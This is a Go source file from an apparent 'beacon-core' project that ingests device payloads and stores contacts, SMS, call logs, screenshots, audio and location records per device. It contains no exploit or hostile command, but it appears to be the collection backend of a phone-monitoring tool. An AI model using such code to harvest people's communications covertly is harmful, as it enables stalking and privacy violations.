package ingest

import (
	"errors"

	"github.com/davenersa/beacon-core/internal/telemetry"
)

// ErrMissingDeviceID is returned when a payload carries neither a
// "deviceId" nor a legacy "device" summary field.
var ErrMissingDeviceID = errors.New("ingest: deviceId required (or field \"device\")")

// Batch is one category's worth of records extracted from a payload.
type Batch struct {
	Category telemetry.Category
	Records  []telemetry.Record
}

// Submission is a normalised producer payload: one device, optional info
// fields, and zero or more category batches in canonical category order.
type Submission struct {
	DeviceID string
	Info     map[string]any
	Batches  []Batch
}

// payloadKeys maps inbound field names to canonical categories. Call logs
// arrive under three different names depending on the client build, and
// screenshots are keyed in the plural.
var payloadKeys = map[telemetry.Category][]string{
	telemetry.CategoryContacts:   {"contacts"},
	telemetry.CategorySMS:        {"sms"},
	telemetry.CategoryCallLog:    {"calllog", "calls", "calllogs"},
	telemetry.CategoryScreenshot: {"screenshots", "screenshot"},
	telemetry.CategoryAudio:      {"audio"},
}

// Parse normalises a decoded payload body into a Submission.
//
// The device identity comes from "deviceId", falling back to the legacy
// "device" summary string; when "device" is present its value is also
// merged into the device info as a "summary" field. Unknown keys are
// ignored — unrecognised fields never abort a submission.
func Parse(body map[string]any) (*Submission, error) {
	deviceID, _ := body["deviceId"].(string)
	summary, hasSummary := body["device"].(string)
	if deviceID == "" {
		deviceID = summary
	}
	if deviceID == "" {
		return nil, ErrMissingDeviceID
	}

	sub := &Submission{DeviceID: deviceID}
	if hasSummary {
		sub.Info = map[string]any{"summary": summary}
	}

	for _, cat := range telemetry.AllCategories() {
		if cat == telemetry.CategoryLocation {
			// A location arrives as a single object, not an array.
			if loc, ok := body["location"].(map[string]any); ok {
				sub.Batches = append(sub.Batches, Batch{
					Category: cat,
					Records:  []telemetry.Record{telemetry.Record(loc)},
				})
			}
			continue
		}

		for _, key := range payloadKeys[cat] {
			raw, ok := body[key].([]any)
			if !ok {
				continue
			}
			records := toRecords(raw)
			if len(records) > 0 {
				sub.Batches = append(sub.Batches, Batch{Category: cat, Records: records})
			}
			break
		}
	}

	return sub, nil
}

// toRecords converts raw array elements to records. Object elements map
// directly; scalar elements are kept under a "value" key rather than
// silently dropped.
func toRecords(raw []any) []telemetry.Record {
	records := make([]telemetry.Record, 0, len(raw))
	for _, elem := range raw {
		switch v := elem.(type) {
		case map[string]any:
			records = append(records, telemetry.Record(v))
		case nil:
			// skip
		default:
			records = append(records, telemetry.Record{"value": v})
		}
	}
	return records
}

// Apply writes a submission to the store: info first, then each category
// batch as an independent sub-operation. A failure in one batch is
// collected but never prevents the remaining batches from being applied.
//
// Returns the total number of records accepted and the joined errors of
// any batches that failed.
func Apply(store *telemetry.Store, sub *Submission) (int, error) {
	var errs []error

	if sub.Info != nil {
		if _, err := store.MergeInfo(sub.DeviceID, sub.Info); err != nil {
			errs = append(errs, err)
		}
	}

	accepted := 0
	for _, batch := range sub.Batches {
		if _, err := store.Submit(sub.DeviceID, batch.Category, batch.Records); err != nil {
			errs = append(errs, err)
			continue
		}
		accepted += len(batch.Records)
	}

	return accepted, errors.Join(errs...)
}
